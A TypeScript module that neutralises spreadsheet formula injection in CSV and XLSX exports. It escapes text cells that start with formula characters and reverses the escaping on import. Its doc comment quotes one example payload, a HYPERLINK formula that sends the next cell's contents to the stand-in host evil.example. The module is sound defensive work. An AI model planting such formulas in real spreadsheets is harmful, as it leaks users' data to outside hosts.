/**
 * Spreadsheet formula injection (OWASP "CSV injection"): a text cell that starts with `=`, `+`, `-`, `@`,
 * a tab or a carriage return is taken for a formula by Excel or LibreOffice when the file is opened, so a
 * finding titled `=HYPERLINK("http://evil.example/?x="&B2,"Open")` would become a live link leaking the
 * next cell. Every text cell of every CSV and XLSX export goes through `toSpreadsheetText`, which puts a
 * `'` in front (what a spreadsheet shows as text, and OWASP's advice); imports undo exactly that with
 * `fromSpreadsheetText`, so an exported file imports back unchanged.
 *
 * Text that already starts with `'` before such a character gets one more, so that the two functions are
 * exact inverses: `fromSpreadsheetText(toSpreadsheetText(s)) === s` for every string.
 */
const FORMULA_START = /^'*[=+\-@\t\r]/;
const NEUTRALISED = /^'+[=+\-@\t\r]/;

export function toSpreadsheetText(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}

export function fromSpreadsheetText(text: string): string {
  return NEUTRALISED.test(text) ? text.slice(1) : text;
}

/** A value of an exported row: numbers and booleans stay what they are (a negative number is not text). */
export type SpreadsheetValue = string | number | boolean | Date | null | undefined;

/** A row with every text cell neutralised. */
export function toSpreadsheetRow<K extends string>(cells: Record<K, SpreadsheetValue>): Record<K, SpreadsheetValue> {
  const row = {} as Record<K, SpreadsheetValue>;
  for (const key of Object.keys(cells) as K[]) {
    const value = cells[key];
    row[key] = typeof value === 'string' ? toSpreadsheetText(value) : value;
  }
  return row;
}
